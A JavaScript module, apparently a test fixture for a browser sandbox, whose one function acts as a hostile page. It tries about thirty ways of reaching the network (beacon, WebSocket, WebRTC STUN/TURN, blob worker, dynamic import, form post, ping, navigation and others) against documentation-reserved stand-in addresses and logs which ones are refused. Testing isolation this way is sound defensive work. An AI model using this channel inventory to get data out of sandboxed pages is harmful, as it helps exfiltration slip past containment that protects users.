/**
 * A hostile page: every way out that a page has, tried one after the other. Runs in the page and knows nothing outside itself;
 * the addresses are set aside for documentation, and nobody has them.
 * @returns {Promise<Readonly<Record<string, string>>>} what became of each
 */
export async function tryEveryWayOutOfPage() {
  /** @type {Record<string, string>} */
  const outcomes = {}
  const attempt = async (name, act) => {
    try {
      const patience = new Promise((resolve) => setTimeout(() => resolve('nothing came'), 900))
      outcomes[name] = String(await Promise.race([act(), patience])).slice(0, 60)
    } catch (problem) {
      outcomes[name] = `refused: ${String(problem).slice(0, 60)}`
    }
  }
  const link = (rel, href) => {
    const element = document.createElement('link')
    Object.assign(element, { rel, href })
    document.head.append(element)
    return 'asked'
  }
  const embedded = (tag, attribute) => {
    const element = document.createElement(tag)
    element.setAttribute(attribute, `http://192.0.2.25/${tag}`)
    document.body.append(element)
    return 'asked'
  }
  const script = (type, text) => {
    const element = document.createElement('script')
    element.type = type
    element.textContent = text
    document.head.append(element)
    return 'asked'
  }
  const talk = async (iceServers) => {
    const peer = new RTCPeerConnection({ iceServers })
    peer.createDataChannel('words')
    await peer.setLocalDescription(await peer.createOffer())
    await new Promise((resolve) => setTimeout(resolve, 700))
    return peer.iceGatheringState
  }
  await attempt('dns-prefetch', () => link('dns-prefetch', '//prefetched.example'))
  await attempt('preconnect', () => link('preconnect', 'https://192.0.2.20'))
  await attempt('prefetch', () => link('prefetch', 'http://192.0.2.21/p'))
  await attempt('style sheet', () => link('stylesheet', 'http://192.0.2.22/s.css'))
  await attempt('icon', () => link('icon', 'http://192.0.2.23/i.ico'))
  await attempt('module preload', () => link('modulepreload', 'http://192.0.2.23/m.js'))
  await attempt('manifest', () => link('manifest', 'http://192.0.2.23/m.json'))
  await attempt('picture', () => {
    new Image().src = 'http://192.0.2.24/i.png'
    return 'asked'
  })
  await attempt('frame', () => embedded('iframe', 'src'))
  await attempt('video', () => embedded('video', 'src'))
  await attempt('audio', () => embedded('audio', 'src'))
  await attempt('embed', () => embedded('embed', 'src'))
  await attempt('object', () => embedded('object', 'data'))
  await attempt('speculation', () =>
    script('speculationrules', '{"prefetch":[{"urls":["https://speculated.example/"],"eagerness":"immediate"}]}'),
  )
  await attempt('fetch', () => fetch('http://192.0.2.31/f').then(() => 'reached'))
  await attempt('XMLHttpRequest', () => {
    const request = new XMLHttpRequest()
    request.open('GET', 'http://192.0.2.42/x')
    request.send()
    return 'asked'
  })
  await attempt('web socket', () => {
    void new WebSocket('ws://192.0.2.32/')
    return 'asked'
  })
  await attempt('beacon', () => navigator.sendBeacon('http://192.0.2.33/b', 'words'))
  await attempt('event source', () => {
    void new EventSource('http://192.0.2.34/e')
    return 'asked'
  })
  await attempt('web transport', () => new WebTransport('https://192.0.2.35:443/').ready)
  await attempt('STUN', () => talk([{ urls: 'stun:192.0.2.36:3478' }, { urls: 'stun:stun.example:3478' }]))
  await attempt('TURN', () => talk([{ urls: 'turn:192.0.2.37:3478', username: 'a', credential: 'b' }]))
  await attempt('worker', () => {
    void new Worker(URL.createObjectURL(new Blob(["fetch('http://192.0.2.38/')"])))
    return 'asked'
  })
  await attempt('import', () => import('http://192.0.2.40/m.js'))
  await attempt('font', () => new FontFace('x', 'url(http://192.0.2.41/f)').load())
  await attempt('window', () => window.open('http://192.0.2.43/') === null)
  await attempt('form', () => {
    const form = document.createElement('form')
    Object.assign(form, { action: 'http://192.0.2.29/f', method: 'post' })
    document.body.append(form)
    form.submit()
    return 'asked'
  })
  await attempt('ping', () => {
    const anchor = document.createElement('a')
    Object.assign(anchor, { href: 'http://192.0.2.30/x', ping: 'http://192.0.2.30/ping' })
    document.body.append(anchor)
    anchor.click()
    return 'asked'
  })
  await attempt('navigation', () => {
    location.href = 'http://192.0.2.44/n'
    return 'asked'
  })
  return outcomes
}
